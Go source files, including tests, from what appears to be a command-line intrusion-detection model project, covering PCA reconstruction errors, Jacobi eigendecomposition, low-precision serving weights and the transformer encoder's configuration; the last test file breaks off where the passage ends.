	for i := range basis.Data {
		basis.Data[i] = r.NormFloat64()
	}
	x := tensor.NewMatrix(n+anomalies, d)
	for i := 0; i < n; i++ {
		row := x.Row(i)
		for k := 0; k < rank; k++ {
			c := r.NormFloat64() * 3
			for j := 0; j < d; j++ {
				row[j] += c * basis.At(k, j)
			}
		}
		for j := 0; j < d; j++ {
			row[j] += r.NormFloat64() * 0.01
		}
	}
	for i := n; i < n+anomalies; i++ {
		row := x.Row(i)
		for j := 0; j < d; j++ {
			row[j] = r.NormFloat64() * 10
		}
	}
	return x
}

func TestPCADetectsOffSubspacePoints(t *testing.T) {
	r := rand.New(rand.NewSource(42))
	x := lowRankData(r, 200, 12, 3, 5)
	train := tensor.FromSlice(200, 12, x.Data[:200*12])
	p, err := FitPCA(train, PCAOptions{Components: 3})
	if err != nil {
		t.Fatal(err)
	}
	errs := p.ReconstructionErrors(x)
	maxNormal := 0.0
	for i := 0; i < 200; i++ {
		if errs[i] > maxNormal {
			maxNormal = errs[i]
		}
	}
	for i := 200; i < 205; i++ {
		if errs[i] < maxNormal*10 {
			t.Fatalf("anomaly %d error %.4f not well above normal max %.4f", i, errs[i], maxNormal)
		}
	}
}

func TestPCAKeptResolution(t *testing.T) {
	r := rand.New(rand.NewSource(7))
	x := tensor.NewMatrix(50, 10)
	for i := range x.Data {
		x.Data[i] = r.NormFloat64()
	}
	p, err := FitPCA(x, PCAOptions{}) // default 95% of components
	if err != nil {
		t.Fatal(err)
	}
	if p.Kept() != 10 { // ceil(0.95*10) = 10
		t.Errorf("default kept = %d, want 10", p.Kept())
	}
	p, err = FitPCA(x, PCAOptions{ComponentsFrac: 0.5})
	if err != nil {
		t.Fatal(err)
	}
	if p.Kept() != 5 {
		t.Errorf("frac 0.5 kept = %d, want 5", p.Kept())
	}
	if _, err := FitPCA(x, PCAOptions{Components: 11}); err == nil {
		t.Error("too many components accepted")
	}
	if _, err := FitPCA(x, PCAOptions{Components: 3, ComponentsFrac: 0.5}); err == nil {
		t.Error("both options accepted")
	}
	if _, err := FitPCA(tensor.NewMatrix(1, 4), PCAOptions{}); err == nil {
		t.Error("single-row fit accepted")
	}
}

func TestPCAFullRankZeroError(t *testing.T) {
	// Keeping all components, reconstruction error must vanish.
	r := rand.New(rand.NewSource(8))
	x := tensor.NewMatrix(40, 6)
	for i := range x.Data {
		x.Data[i] = r.NormFloat64()
	}
	p, err := FitPCA(x, PCAOptions{Components: 6})
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range p.ReconstructionErrors(x) {
		if e > 1e-16 {
			t.Fatalf("full-rank reconstruction error %v", e)
		}
	}
	if ratio := p.ExplainedVarianceRatio(); math.Abs(ratio-1) > 1e-12 {
		t.Errorf("explained variance = %v, want 1", ratio)
	}
}

func TestPCAResidualOperatorMatchesError(t *testing.T) {
	r := rand.New(rand.NewSource(9))
	x := lowRankData(r, 100, 8, 2, 0)
	p, err := FitPCA(x, PCAOptions{Components: 2})
	if err != nil {
		t.Fatal(err)
	}
	m := p.ResidualOperator()
	for i := 0; i < 10; i++ {
		row := x.Row(i)
		centered := make([]float64, len(row))
		for j := range row {
			centered[j] = row[j] - p.Mean[j]
		}
		// ‖M·c‖² must equal ReconstructionError.
		res := make([]float64, len(centered))
		for a := 0; a < m.Rows; a++ {
			mrow := m.Row(a)
			s := 0.0
			for b, v := range centered {
				s += mrow[b] * v
			}
			res[a] = s
		}
		want := p.ReconstructionError(row)
		got := Dot(res, res)
		if math.Abs(got-want) > 1e-8*(1+want) {
			t.Fatalf("row %d: operator error %v vs direct %v", i, got, want)
		}
	}
}

func TestPCAProjectDimPanics(t *testing.T) {
	r := rand.New(rand.NewSource(10))
	x := tensor.NewMatrix(20, 4)
	for i := range x.Data {
		x.Data[i] = r.NormFloat64()
	}
	p, err := FitPCA(x, PCAOptions{Components: 2})
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if recover() == nil {
			t.Fatal("expected panic on dimension mismatch")
		}
	}()
	p.Project([]float64{1, 2, 3})
}

func BenchmarkSymEig64(b *testing.B) {
	r := rand.New(rand.NewSource(11))
	a := randSym(r, 64)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, _, err := SymEig(a); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkPCAFit(b *testing.B) {
	r := rand.New(rand.NewSource(12))
	x := lowRankData(r, 500, 64, 8, 0)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := FitPCA(x, PCAOptions{ComponentsFrac: 0.95}); err != nil {
			b.Fatal(err)
		}
	}
}
