package linalg

import (
	"fmt"
	"math"

	"clmids/internal/tensor"
)

// PCAOptions selects how many principal components to keep. Exactly one of
// the fields should be set; when both are zero, ComponentsFrac defaults to
// 0.95 (the paper keeps 95% of components for reconstruction-based tuning).
type PCAOptions struct {
	// Components keeps a fixed number of leading components.
	Components int
	// ComponentsFrac keeps ceil(frac · dim) leading components.
	ComponentsFrac float64
}

// PCA is a fitted principal-component model. Reconstruction error of an
// embedding f(t) is Eq. (1): ‖WᵀW·(f(t)−μ) − (f(t)−μ)‖², where the rows of
// W are the kept principal axes.
type PCA struct {
	// Mean is the per-dimension training mean μ (length Dim).
	Mean []float64
	// W is the projection matrix, [Kept, Dim]; rows are orthonormal
	// principal axes.
	W *tensor.Matrix
	// Eigenvalues holds all Dim eigenvalues of the covariance, descending.
	Eigenvalues []float64
}

// Dim returns the embedding dimensionality.
func (p *PCA) Dim() int { return p.W.Cols }

// Kept returns the number of retained components.
func (p *PCA) Kept() int { return p.W.Rows }

// FitPCA fits a PCA on the rows of x (one embedding per row).
func FitPCA(x *tensor.Matrix, opts PCAOptions) (*PCA, error) {
	n, d := x.Rows, x.Cols
	if n < 2 {
		return nil, fmt.Errorf("linalg: PCA needs at least 2 rows, got %d", n)
	}
	kept, err := resolveKept(d, opts)
	if err != nil {
		return nil, err
	}

	mean := make([]float64, d)
	for i := 0; i < n; i++ {
		row := x.Row(i)
		for j, v := range row {
			mean[j] += v
		}
	}
	for j := range mean {
		mean[j] /= float64(n)
	}

	centered := tensor.NewMatrix(n, d)
	for i := 0; i < n; i++ {
		src := x.Row(i)
		dst := centered.Row(i)
		for j, v := range src {
			dst[j] = v - mean[j]
		}
	}

	cov := tensor.NewMatrix(d, d)
	tensor.MatMulATBInto(centered, centered, cov)
	cov.ScaleInPlace(1 / float64(n-1))

	vals, vecs, err := SymEig(cov)
	if err != nil {
		return nil, err
	}
	w := tensor.NewMatrix(kept, d)
	for c := 0; c < kept; c++ {
		for r := 0; r < d; r++ {
			w.Set(c, r, vecs.At(r, c)) // row c of W = eigenvector c
		}
	}
	return &PCA{Mean: mean, W: w, Eigenvalues: vals}, nil
}

func resolveKept(dim int, opts PCAOptions) (int, error) {
	switch {
	case opts.Components > 0 && opts.ComponentsFrac > 0:
		return 0, fmt.Errorf("linalg: set only one of Components and ComponentsFrac")
	case opts.Components > 0:
		if opts.Components > dim {
			return 0, fmt.Errorf("linalg: %d components exceed dimension %d", opts.Components, dim)
		}
		return opts.Components, nil
	default:
		frac := opts.ComponentsFrac
		if frac == 0 {
			frac = 0.95
		}
		if frac < 0 || frac > 1 {
			return 0, fmt.Errorf("linalg: ComponentsFrac %v outside [0,1]", frac)
		}
		kept := int(math.Ceil(frac * float64(dim)))
		if kept < 1 {
			kept = 1
		}
		return kept, nil
	}
}

// Project maps an embedding into the kept-component space (length Kept).
func (p *PCA) Project(row []float64) []float64 {
	d := p.Dim()
	if len(row) != d {
		panic(fmt.Sprintf("linalg: Project dim %d, want %d", len(row), d))
	}
	out := make([]float64, p.Kept())
	for c := 0; c < p.Kept(); c++ {
		wrow := p.W.Row(c)
		s := 0.0
		for j, v := range row {
			s += wrow[j] * (v - p.Mean[j])
		}
		out[c] = s
	}
	return out
}

// ReconstructionError computes Eq. (1) for a single embedding: the squared
// distance between the centered vector and its projection back from the
// kept-component subspace.
func (p *PCA) ReconstructionError(row []float64) float64 {
	d := p.Dim()
	if len(row) != d {
		panic(fmt.Sprintf("linalg: ReconstructionError dim %d, want %d", len(row), d))
	}
	z := p.Project(row)
	// residual = centered - Wᵀz ; error = ‖residual‖²
	err := 0.0
	for j := 0; j < d; j++ {
		rec := 0.0
		for c := 0; c < p.Kept(); c++ {
			rec += p.W.At(c, j) * z[c]
		}
		r := (row[j] - p.Mean[j]) - rec
		err += r * r
	}
	return err
}

// ReconstructionErrors computes Eq. (1) for every row of x.
func (p *PCA) ReconstructionErrors(x *tensor.Matrix) []float64 {
	out := make([]float64, x.Rows)
	for i := 0; i < x.Rows; i++ {
		out[i] = p.ReconstructionError(x.Row(i))
	}
	return out
}

// ResidualOperator returns M = WᵀW − I, the [Dim, Dim] linear operator whose
// application to a centered embedding gives the (negated) reconstruction
// residual. Reconstruction-based tuning (Eq. 2) differentiates through
// ‖M·(f(t)−μ)‖², so the operator is exposed as a plain matrix for use as a
// constant in the autograd graph.
func (p *PCA) ResidualOperator() *tensor.Matrix {
	d := p.Dim()
	m := tensor.NewMatrix(d, d)
	tensor.MatMulATBInto(p.W, p.W, m) // WᵀW
	for i := 0; i < d; i++ {
		m.Set(i, i, m.At(i, i)-1)
	}
	return m
}

// ExplainedVarianceRatio returns the fraction of total variance captured by
// the kept components.
func (p *PCA) ExplainedVarianceRatio() float64 {
	total, kept := 0.0, 0.0
	for i, v := range p.Eigenvalues {
		if v < 0 {
			v = 0
		}
		total += v
		if i < p.Kept() {
			kept += v
		}
	}
	if total == 0 {
		return 0
	}
	return kept / total
}
