// Package linalg provides the dense linear algebra the detectors need:
// symmetric eigendecomposition (cyclic Jacobi), a thin SVD built on it, and
// principal component analysis with reconstruction errors — Eq. (1) of the
// paper. Dimensions are embedding-sized (tens to hundreds), where Jacobi is
// simple, numerically robust, and fast enough.
package linalg

import (
	"fmt"
	"math"
	"sort"

	"clmids/internal/tensor"
)

// maxJacobiSweeps bounds the cyclic Jacobi iteration; convergence for
// embedding-sized matrices takes well under 20 sweeps.
const maxJacobiSweeps = 64

// SymEig computes the eigendecomposition of a symmetric matrix.
// It returns the eigenvalues in descending order and a matrix whose column
// i is the unit eigenvector for eigenvalue i. The input is not modified.
func SymEig(a *tensor.Matrix) ([]float64, *tensor.Matrix, error) {
	n := a.Rows
	if n != a.Cols {
		return nil, nil, fmt.Errorf("linalg: SymEig needs a square matrix, got %dx%d", a.Rows, a.Cols)
	}
	if n == 0 {
		return nil, nil, fmt.Errorf("linalg: SymEig on empty matrix")
	}
	const asymTol = 1e-8
	for i := 0; i < n; i++ {
		for j := i + 1; j < n; j++ {
			if math.Abs(a.At(i, j)-a.At(j, i)) > asymTol*(1+math.Abs(a.At(i, j))) {
				return nil, nil, fmt.Errorf("linalg: matrix is not symmetric at (%d,%d)", i, j)
			}
		}
	}

	A := a.Clone()
	V := tensor.NewMatrix(n, n)
	for i := 0; i < n; i++ {
		V.Set(i, i, 1)
	}

	for sweep := 0; sweep < maxJacobiSweeps; sweep++ {
		off := 0.0
		for i := 0; i < n; i++ {
			for j := i + 1; j < n; j++ {
				v := A.At(i, j)
				off += v * v
			}
		}
		if off < 1e-22*float64(n*n) {
			break
		}
		for p := 0; p < n-1; p++ {
			for q := p + 1; q < n; q++ {
				apq := A.At(p, q)
				if math.Abs(apq) < 1e-300 {
					continue
				}
				app, aqq := A.At(p, p), A.At(q, q)
				theta := (aqq - app) / (2 * apq)
				t := math.Copysign(1, theta) / (math.Abs(theta) + math.Sqrt(theta*theta+1))
				c := 1 / math.Sqrt(t*t+1)
				s := t * c

				for k := 0; k < n; k++ {
					if k == p || k == q {
						continue
					}
					akp, akq := A.At(k, p), A.At(k, q)
					A.Set(k, p, c*akp-s*akq)
					A.Set(p, k, c*akp-s*akq)
					A.Set(k, q, s*akp+c*akq)
					A.Set(q, k, s*akp+c*akq)
				}
				A.Set(p, p, app-t*apq)
				A.Set(q, q, aqq+t*apq)
				A.Set(p, q, 0)
				A.Set(q, p, 0)
				for k := 0; k < n; k++ {
					vkp, vkq := V.At(k, p), V.At(k, q)
					V.Set(k, p, c*vkp-s*vkq)
					V.Set(k, q, s*vkp+c*vkq)
				}
			}
		}
	}

	vals := make([]float64, n)
	for i := 0; i < n; i++ {
		vals[i] = A.At(i, i)
	}
	idx := make([]int, n)
	for i := range idx {
		idx[i] = i
	}
	sort.Slice(idx, func(i, j int) bool { return vals[idx[i]] > vals[idx[j]] })

	sortedVals := make([]float64, n)
	sortedVecs := tensor.NewMatrix(n, n)
	for newCol, oldCol := range idx {
		sortedVals[newCol] = vals[oldCol]
		for r := 0; r < n; r++ {
			sortedVecs.Set(r, newCol, V.At(r, oldCol))
		}
	}
	return sortedVals, sortedVecs, nil
}

// SVDThin computes the thin singular value decomposition A = U·diag(S)·Vᵀ
// for A with Rows >= Cols, via the eigendecomposition of AᵀA. Singular
// values are returned in descending order; U is [Rows, Cols] and V is
// [Cols, Cols]. Columns of U corresponding to (near-)zero singular values
// are zero.
func SVDThin(a *tensor.Matrix) (u *tensor.Matrix, s []float64, v *tensor.Matrix, err error) {
	if a.Rows < a.Cols {
		return nil, nil, nil, fmt.Errorf("linalg: SVDThin needs Rows >= Cols, got %dx%d", a.Rows, a.Cols)
	}
	ata := tensor.NewMatrix(a.Cols, a.Cols)
	tensor.MatMulATBInto(a, a, ata)
	vals, vecs, err := SymEig(ata)
	if err != nil {
		return nil, nil, nil, err
	}
	s = make([]float64, a.Cols)
	for i, ev := range vals {
		if ev < 0 {
			ev = 0 // numerical noise
		}
		s[i] = math.Sqrt(ev)
	}
	u = tensor.MatMul(a, vecs)
	for j := 0; j < a.Cols; j++ {
		if s[j] > 1e-12 {
			inv := 1 / s[j]
			for i := 0; i < a.Rows; i++ {
				u.Set(i, j, u.At(i, j)*inv)
			}
		} else {
			for i := 0; i < a.Rows; i++ {
				u.Set(i, j, 0)
			}
		}
	}
	return u, s, vecs, nil
}

// Dot returns the inner product of equal-length vectors.
func Dot(a, b []float64) float64 {
	s := 0.0
	for i, v := range a {
		s += v * b[i]
	}
	return s
}

// Norm returns the Euclidean norm.
func Norm(a []float64) float64 { return math.Sqrt(Dot(a, a)) }

// Cosine returns the cosine similarity of two vectors; zero vectors yield 0.
func Cosine(a, b []float64) float64 {
	na, nb := Norm(a), Norm(b)
	if na == 0 || nb == 0 {
		return 0
	}
	return Dot(a, b) / (na * nb)
}

// Euclidean returns the Euclidean distance between two vectors.
func Euclidean(a, b []float64) float64 {
	s := 0.0
	for i, v := range a {
		d := v - b[i]
		s += d * d
	}
	return math.Sqrt(s)
}
