// Low-precision serving weights — the model half of the precision ladder.
//
// The float64 encoder stays the canonical representation: training, the
// golden tests, and every persisted model snapshot are bitwise untouched.
// For serving, the encoder can be "lowered" once per precision into a
// LowWeights mirror — float32 copies of every matrix, or int8 quantized
// linear weights (per-output-channel symmetric scales, tensor.Int8Matrix)
// with float32 norms/biases/embeddings — which the tape-free inference
// kernels then run against. Lowering is deterministic, so a quantized
// bundle section and an on-the-fly conversion of the same float64 weights
// are byte-identical.
package model

import (
	"encoding/gob"
	"fmt"
	"io"

	"clmids/internal/tensor"
)

// Precision selects the serve-path arithmetic. The zero value means
// float64 (the canonical path); float32 halves GEMM memory traffic; int8
// quarters weight traffic again and accumulates in int32.
type Precision string

// The precision ladder, fastest-to-most-exact.
const (
	PrecisionFloat64 Precision = "float64"
	PrecisionFloat32 Precision = "float32"
	PrecisionInt8    Precision = "int8"
)

// ParsePrecision maps flag/manifest spellings to a Precision. The empty
// string is float64 so zero-valued configs keep today's exact behavior.
func ParsePrecision(s string) (Precision, error) {
	switch s {
	case "", "f64", "float64":
		return PrecisionFloat64, nil
	case "f32", "float32":
		return PrecisionFloat32, nil
	case "int8", "i8":
		return PrecisionInt8, nil
	default:
		return "", fmt.Errorf("model: unknown precision %q (want float64 | float32 | int8)", s)
	}
}

// Valid reports whether p is one of the ladder's rungs ("" counts as
// float64).
func (p Precision) Valid() bool {
	switch p {
	case "", PrecisionFloat64, PrecisionFloat32, PrecisionInt8:
		return true
	}
	return false
}

// Low reports whether p selects a reduced-precision serve path.
func (p Precision) Low() bool { return p == PrecisionFloat32 || p == PrecisionInt8 }

// lowLinear is one linear layer's serving weights at reduced precision:
// exactly one of W (float32) or Q (int8 + per-column scales) is set; the
// bias stays float32 on both rungs (it is added once per output element —
// quantizing it buys nothing).
type lowLinear struct {
	W *tensor.Matrix32
	Q *tensor.Int8Matrix
	B *tensor.Matrix32 // may be nil
}

// lowBlock mirrors one transformer block.
type lowBlock struct {
	WQ, WK, WV, WO, FF1, FF2 lowLinear
	AttnGamma, AttnBeta      *tensor.Matrix32
	FFGamma, FFBeta          *tensor.Matrix32
}

// LowWeights is an encoder's full serving weight set at one reduced
// precision. It is immutable after construction and safe to share across
// engines, scratch arenas, and shard replicas.
type LowWeights struct {
	prec     Precision
	cfg      Config
	tok, pos *tensor.Matrix32
	embGamma *tensor.Matrix32
	embBeta  *tensor.Matrix32
	blocks   []lowBlock
}

// Precision returns the rung these weights were lowered to.
func (lw *LowWeights) Precision() Precision { return lw.prec }

// lowerLinear converts one linear layer; quant selects the int8 rung for
// the weight matrix (biases narrow to float32 either way).
func lowerLinear(w, b *tensor.Matrix, quant bool) lowLinear {
	var ll lowLinear
	if quant {
		ll.Q = tensor.QuantizeMatrix(w)
	} else {
		ll.W = tensor.Narrow(w)
	}
	if b != nil {
		ll.B = tensor.Narrow(b)
	}
	return ll
}

// Lowered returns the encoder's serving weights at precision p, converting
// and caching them on first use (rows quantize once at load, never per
// call). The encoder's float64 weights must be frozen by the time this is
// called — the cache is never invalidated, exactly like the inference
// engine's embedding LRU. Safe for concurrent use.
func (e *Encoder) Lowered(p Precision) (*LowWeights, error) {
	switch p {
	case PrecisionFloat32, PrecisionInt8:
	default:
		return nil, fmt.Errorf("model: no lowered weights for precision %q", p)
	}
	e.lowMu.Lock()
	defer e.lowMu.Unlock()
	if lw, ok := e.lowered[p]; ok {
		return lw, nil
	}
	quant := p == PrecisionInt8
	lw := &LowWeights{
		prec:     p,
		cfg:      e.cfg,
		tok:      tensor.Narrow(e.TokEmb.W.Val),
		pos:      tensor.Narrow(e.PosEmb.W.Val),
		embGamma: tensor.Narrow(e.EmbNorm.Gamma.Val),
		embBeta:  tensor.Narrow(e.EmbNorm.Beta.Val),
		blocks:   make([]lowBlock, len(e.Blocks)),
	}
	for i, blk := range e.Blocks {
		lw.blocks[i] = lowBlock{
			WQ:        lowerLinear(blk.WQ.W.Val, blk.WQ.B.Val, quant),
			WK:        lowerLinear(blk.WK.W.Val, blk.WK.B.Val, quant),
			WV:        lowerLinear(blk.WV.W.Val, blk.WV.B.Val, quant),
			WO:        lowerLinear(blk.WO.W.Val, blk.WO.B.Val, quant),
			FF1:       lowerLinear(blk.FF1.W.Val, blk.FF1.B.Val, quant),
			FF2:       lowerLinear(blk.FF2.W.Val, blk.FF2.B.Val, quant),
			AttnGamma: tensor.Narrow(blk.AttnNorm.Gamma.Val),
			AttnBeta:  tensor.Narrow(blk.AttnNorm.Beta.Val),
			FFGamma:   tensor.Narrow(blk.FFNorm.Gamma.Val),
			FFBeta:    tensor.Narrow(blk.FFNorm.Beta.Val),
		}
	}
	if e.lowered == nil {
		e.lowered = make(map[Precision]*LowWeights, 2)
	}
	e.lowered[p] = lw
	return lw, nil
}

// SetLowered installs pre-converted serving weights (e.g. a bundle's
// quantized section) into the encoder's cache, so Lowered returns them
// instead of re-converting. The weights must describe the same
// architecture.
func (e *Encoder) SetLowered(lw *LowWeights) error {
	if !lw.prec.Low() {
		return fmt.Errorf("model: SetLowered with precision %q", lw.prec)
	}
	if lw.cfg != e.cfg {
		return fmt.Errorf("model: lowered weights built for %+v, encoder is %+v", lw.cfg, e.cfg)
	}
	e.lowMu.Lock()
	defer e.lowMu.Unlock()
	if e.lowered == nil {
		e.lowered = make(map[Precision]*LowWeights, 2)
	}
	e.lowered[lw.prec] = lw
	return nil
}

// lowSnapshot is the gob form of LowWeights: plain slices in a fixed walk
// order (no maps), so saving the same weights twice yields identical bytes
// — bundle checksums and content-derived versions depend on that.
type lowSnapshot struct {
	Format string
	Prec   string
	Cfg    Config
	// F32 holds every float32 matrix in walk order: tok, pos, embGamma,
	// embBeta, then per block the present lowLinear fields (W only on the
	// float32 rung) and norm params.
	F32 []*tensor.Matrix32
	// Q holds the quantized linear weights in block order (wq, wk, wv, wo,
	// ff1, ff2 per block); empty on the float32 rung.
	Q []*tensor.Int8Matrix
}

const lowFormat = "clmids-lowweights v1"

// walk visits every matrix of lw in the canonical serialization order.
func (lw *LowWeights) walk(f32 func(*tensor.Matrix32), q func(*tensor.Int8Matrix)) {
	f32(lw.tok)
	f32(lw.pos)
	f32(lw.embGamma)
	f32(lw.embBeta)
	for i := range lw.blocks {
		b := &lw.blocks[i]
		for _, ll := range []*lowLinear{&b.WQ, &b.WK, &b.WV, &b.WO, &b.FF1, &b.FF2} {
			if ll.Q != nil {
				q(ll.Q)
			} else {
				f32(ll.W)
			}
			if ll.B != nil {
				f32(ll.B)
			}
		}
		f32(b.AttnGamma)
		f32(b.AttnBeta)
		f32(b.FFGamma)
		f32(b.FFBeta)
	}
}

// SaveLowWeights writes lw to w in the deterministic snapshot form.
func SaveLowWeights(w io.Writer, lw *LowWeights) error {
	snap := lowSnapshot{Format: lowFormat, Prec: string(lw.prec), Cfg: lw.cfg}
	lw.walk(
		func(m *tensor.Matrix32) { snap.F32 = append(snap.F32, m) },
		func(m *tensor.Int8Matrix) { snap.Q = append(snap.Q, m) },
	)
	if err := gob.NewEncoder(w).Encode(&snap); err != nil {
		return fmt.Errorf("model: encoding lowered weights: %w", err)
	}
	return nil
}

// LoadLowWeights reads a snapshot written by SaveLowWeights, validating
// every matrix shape against the embedded architecture before returning.
func LoadLowWeights(r io.Reader) (*LowWeights, error) {
	var snap lowSnapshot
	if err := gob.NewDecoder(r).Decode(&snap); err != nil {
		return nil, fmt.Errorf("model: decoding lowered weights: %w", err)
	}
	if snap.Format != lowFormat {
		return nil, fmt.Errorf("model: unknown lowered-weights format %q", snap.Format)
	}
	prec := Precision(snap.Prec)
	if !prec.Low() {
		return nil, fmt.Errorf("model: lowered-weights precision %q is not a low rung", snap.Prec)
	}
	if err := snap.Cfg.Validate(); err != nil {
		return nil, err
	}
	cfg := snap.Cfg
	lw := &LowWeights{prec: prec, cfg: cfg, blocks: make([]lowBlock, cfg.Layers)}

	// Re-walk the canonical order, consuming the snapshot slices and
	// validating shapes as they land.
	f32At, qAt := 0, 0
	var walkErr error
	nextF32 := func(rows, cols int, name string) *tensor.Matrix32 {
		if walkErr != nil {
			return nil
		}
		if f32At >= len(snap.F32) {
			walkErr = fmt.Errorf("model: lowered weights truncated at %s", name)
			return nil
		}
		m := snap.F32[f32At]
		f32At++
		if m == nil || m.Rows != rows || m.Cols != cols || len(m.Data) != rows*cols {
			walkErr = fmt.Errorf("model: lowered %s malformed (want %dx%d)", name, rows, cols)
			return nil
		}
		return m
	}
	nextQ := func(rows, cols int, name string) *tensor.Int8Matrix {
		if walkErr != nil {
			return nil
		}
		if qAt >= len(snap.Q) {
			walkErr = fmt.Errorf("model: lowered weights truncated at %s", name)
			return nil
		}
		m := snap.Q[qAt]
		qAt++
		if m == nil {
			walkErr = fmt.Errorf("model: lowered %s missing", name)
			return nil
		}
		if err := m.CheckShape(rows, cols); err != nil {
			walkErr = fmt.Errorf("model: lowered %s: %w", name, err)
			return nil
		}
		return m
	}
	nextLinear := func(in, out int, name string) lowLinear {
		var ll lowLinear
		if prec == PrecisionInt8 {
			ll.Q = nextQ(in, out, name)
		} else {
			ll.W = nextF32(in, out, name)
		}
		ll.B = nextF32(1, out, name+" bias")
		return ll
	}

	lw.tok = nextF32(cfg.VocabSize, cfg.Hidden, "token embedding")
	lw.pos = nextF32(cfg.MaxSeqLen, cfg.Hidden, "position embedding")
	lw.embGamma = nextF32(1, cfg.Hidden, "embedding norm gamma")
	lw.embBeta = nextF32(1, cfg.Hidden, "embedding norm beta")
	for i := range lw.blocks {
		lw.blocks[i] = lowBlock{
			WQ:        nextLinear(cfg.Hidden, cfg.Hidden, fmt.Sprintf("block %d WQ", i)),
			WK:        nextLinear(cfg.Hidden, cfg.Hidden, fmt.Sprintf("block %d WK", i)),
			WV:        nextLinear(cfg.Hidden, cfg.Hidden, fmt.Sprintf("block %d WV", i)),
			WO:        nextLinear(cfg.Hidden, cfg.Hidden, fmt.Sprintf("block %d WO", i)),
			FF1:       nextLinear(cfg.Hidden, cfg.FFN, fmt.Sprintf("block %d FF1", i)),
			FF2:       nextLinear(cfg.FFN, cfg.Hidden, fmt.Sprintf("block %d FF2", i)),
			AttnGamma: nextF32(1, cfg.Hidden, fmt.Sprintf("block %d attn gamma", i)),
			AttnBeta:  nextF32(1, cfg.Hidden, fmt.Sprintf("block %d attn beta", i)),
			FFGamma:   nextF32(1, cfg.Hidden, fmt.Sprintf("block %d ff gamma", i)),
			FFBeta:    nextF32(1, cfg.Hidden, fmt.Sprintf("block %d ff beta", i)),
		}
	}
	if walkErr != nil {
		return nil, walkErr
	}
	if f32At != len(snap.F32) || qAt != len(snap.Q) {
		return nil, fmt.Errorf("model: lowered weights carry %d extra matrices",
			len(snap.F32)-f32At+len(snap.Q)-qAt)
	}
	return lw, nil
}
