// Package model implements the command-line language model of §II-B: a
// BERT-style transformer encoder over BPE token IDs, with a masked-language-
// model head for self-supervised pre-training, a [CLS] pooler, and helpers
// to extract per-command-line embeddings for the downstream detectors.
//
// Sequences are represented without padding: a batch is the concatenation of
// its sequences plus a slice of lengths, and the fused attention op never
// attends across sequence boundaries.
package model

import (
	"fmt"
)

// Config describes the encoder architecture. The zero value is not valid;
// use Default or BERTBase and adjust.
type Config struct {
	// VocabSize is the BPE vocabulary size (paper: 50 000).
	VocabSize int
	// MaxSeqLen is the maximum number of tokens per line (paper: 1024);
	// longer lines are trimmed by the tokenizer.
	MaxSeqLen int
	// Hidden is the embedding and residual width (paper: 768).
	Hidden int
	// Layers is the number of transformer blocks (paper: 12).
	Layers int
	// Heads is the number of attention heads per block (paper: 12).
	Heads int
	// FFN is the feed-forward intermediate width (paper: 3072).
	FFN int
	// LayerNormEps stabilizes normalization denominators.
	LayerNormEps float64
	// Dropout is applied to embeddings and residual branches during
	// training.
	Dropout float64
}

// Default returns a small single-CPU-friendly configuration used by the
// experiments at reduced scale.
func Default(vocabSize int) Config {
	return Config{
		VocabSize:    vocabSize,
		MaxSeqLen:    64,
		Hidden:       64,
		Layers:       2,
		Heads:        4,
		FFN:          128,
		LayerNormEps: 1e-5,
		Dropout:      0.1,
	}
}

// BERTBase returns the paper's exact architecture: 12 transformer blocks,
// 12 heads, hidden 768, sequence length 1024.
func BERTBase(vocabSize int) Config {
	return Config{
		VocabSize:    vocabSize,
		MaxSeqLen:    1024,
		Hidden:       768,
		Layers:       12,
		Heads:        12,
		FFN:          3072,
		LayerNormEps: 1e-12,
		Dropout:      0.1,
	}
}

// Validate reports configuration errors.
func (c Config) Validate() error {
	switch {
	case c.VocabSize < 6:
		return fmt.Errorf("model: VocabSize %d too small (need specials + symbols)", c.VocabSize)
	case c.MaxSeqLen < 2:
		return fmt.Errorf("model: MaxSeqLen %d < 2", c.MaxSeqLen)
	case c.Hidden <= 0 || c.Layers <= 0 || c.Heads <= 0 || c.FFN <= 0:
		return fmt.Errorf("model: non-positive dimension in %+v", c)
	case c.Hidden%c.Heads != 0:
		return fmt.Errorf("model: Hidden %d not divisible by Heads %d", c.Hidden, c.Heads)
	case c.Dropout < 0 || c.Dropout >= 1:
		return fmt.Errorf("model: Dropout %v outside [0,1)", c.Dropout)
	case c.LayerNormEps <= 0:
		return fmt.Errorf("model: LayerNormEps must be positive")
	}
	return nil
}

// Batch is a padding-free batch: IDs concatenates the token IDs of all
// sequences; Lens[i] is the token count of sequence i.
type Batch struct {
	IDs  []int
	Lens []int
}

// NewBatch assembles a batch from per-sequence token ID slices, dropping
// empty sequences.
func NewBatch(seqs [][]int) Batch {
	var b Batch
	for _, s := range seqs {
		if len(s) == 0 {
			continue
		}
		b.IDs = append(b.IDs, s...)
		b.Lens = append(b.Lens, len(s))
	}
	return b
}

// Size returns the number of sequences.
func (b Batch) Size() int { return len(b.Lens) }

// Tokens returns the total token count.
func (b Batch) Tokens() int { return len(b.IDs) }

// Validate checks internal consistency and ID ranges.
func (b Batch) Validate(vocabSize, maxSeqLen int) error {
	total := 0
	for i, l := range b.Lens {
		if l <= 0 {
			return fmt.Errorf("model: batch sequence %d has length %d", i, l)
		}
		if l > maxSeqLen {
			return fmt.Errorf("model: batch sequence %d length %d exceeds max %d", i, l, maxSeqLen)
		}
		total += l
	}
	if total != len(b.IDs) {
		return fmt.Errorf("model: batch lens sum %d != %d ids", total, len(b.IDs))
	}
	for i, id := range b.IDs {
		if id < 0 || id >= vocabSize {
			return fmt.Errorf("model: token %d id %d outside vocab %d", i, id, vocabSize)
		}
	}
	return nil
}

// CLSIndices returns the row index of each sequence's first token (the
// [CLS] position) within the concatenated hidden-state matrix.
func (b Batch) CLSIndices() []int {
	out := make([]int, len(b.Lens))
	off := 0
	for i, l := range b.Lens {
		out[i] = off
		off += l
	}
	return out
}
