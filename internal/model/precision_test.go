package model

import (
	"bytes"
	"math"
	"math/rand"
	"testing"

	"clmids/internal/tensor"
)

// lowTol is the relative deviation budget per hidden-state element for the
// low-precision forward against the float64 golden path on the tiny test
// encoder (two blocks): float32 rounding plus, on int8, the quantization
// error of six linear layers per block.
const (
	f32Tol  = 1e-4
	int8Tol = 0.15
)

func TestParsePrecision(t *testing.T) {
	for in, want := range map[string]Precision{
		"": PrecisionFloat64, "f64": PrecisionFloat64, "float64": PrecisionFloat64,
